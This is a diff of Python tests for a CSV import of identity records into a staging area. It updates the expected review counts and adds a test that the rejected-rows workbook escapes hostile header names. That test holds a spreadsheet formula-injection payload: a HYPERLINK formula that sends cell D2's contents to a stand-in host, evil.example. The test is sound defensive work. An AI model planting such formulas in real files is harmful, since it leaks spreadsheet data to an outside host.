@@ -61,11 +61,13 @@ def test_every_row_is_staged_with_its_verdict_and_the_report_counts_by_rule(tmp_
 
     run = ImportRun.objects.get()
     assert run.status == ImportRun.Status.DONE
-    assert (run.rows_read, run.rows_accepted, run.rows_review, run.rows_rejected) == (8, 2, 1, 5)
+    # Row 2 passes the row rules, but a year alone for a birth date is a warning on the DC01 it becomes:
+    # it waits for an officer, and is counted there.
+    assert (run.rows_read, run.rows_accepted, run.rows_review, run.rows_rejected) == (8, 1, 2, 5)
     statuses = dict(StagingRecord.objects.values_list("row_number", "status"))
     assert statuses == {
         1: "approved",
-        2: "approved",
+        2: "review",
         3: "rejected",
         4: "rejected",
         5: "review",
@@ -113,6 +115,32 @@ def test_the_rejected_rows_workbook_gives_the_reason_beside_each_row(tmp_path: P
     assert by_row[8][birth_column].startswith("'=")
 
 
+def test_the_rejected_rows_workbook_writes_the_uploaded_header_as_text(tmp_path: Path) -> None:
+    # The header names are the uploader's text: one is a formula, one holds a control character (which
+    # openpyxl refuses), one a code point XML forbids (which leaves a workbook Excel cannot open).
+    formula = '"=HYPERLINK(""http://evil.example/?x=""&D2,""xem"")"'
+    path = tmp_path / "hostile.csv"
+    path.write_text(
+        f"{HEADER},{formula},ghi\x01chu,note\uffff\n"
+        f"R1,Ngô Văn Lỗi,Nam,2099-01-01,Hà Nội,,,{HOAN_KIEM},x,y,z\n",
+        encoding="utf-8",
+    )
+    run_import(path)
+    workbook = load_workbook(tmp_path / "hostile.csv.rejected.xlsx")
+    header = list(next(workbook.active.iter_rows(min_row=1, max_row=1)))
+    extra = [(cell.value, cell.data_type) for cell in header[-3:]]
+    assert extra == [
+        ('\'=hyperlink("http://evil.example/?x="&d2,"xem")', "s"),
+        ("ghichu", "s"),
+        ("note", "s"),
+    ]
+    assert [cell.value for cell in next(workbook.active.iter_rows(min_row=2, max_row=2))][-3:] == [
+        "x",
+        "y",
+        "z",
+    ]
+
+
 def test_importing_the_same_file_again_writes_nothing_twice(tmp_path: Path) -> None:
     path = csv_file(tmp_path)
     run_import(path)
@@ -156,10 +184,11 @@ def test_numbers_already_in_the_registry_or_earlier_in_the_file_are_refused_nami
     assert [i["code"] for i in records[4].issues] == ["cmnd.duplicate_in_batch"]
     assert "R3" in records[4].issues[0]["message_en"]
     assert "R3" in records[5].issues[0]["message_vi"]
+    # Row 3 passes the row rules; its year-only birth date sends its DC01 to an officer.
     assert [records[n].status for n in range(1, 6)] == [
         "rejected",
         "rejected",
-        "approved",
+        "review",
         "rejected",
         "rejected",
     ]
@@ -174,7 +203,8 @@ def test_identifiers_of_any_length_are_refused_by_their_rule_and_the_import_goes
     first = StagingRecord.objects.get(row_number=1)
     assert {issue["code"] for issue in first.issues} == {"pin.format", "cmnd.format"}
     assert (first.id_number, first.old_id_number) == ("", "")
-    assert StagingRecord.objects.get(row_number=2).status == "approved"
+    # Row 2 passes the row rules (its year-only birth date then sends its DC01 to an officer).
+    assert StagingRecord.objects.get(row_number=2).status == "review"
 
 
 def test_a_nul_character_past_the_files_start_rejects_its_row_only(tmp_path: Path) -> None:
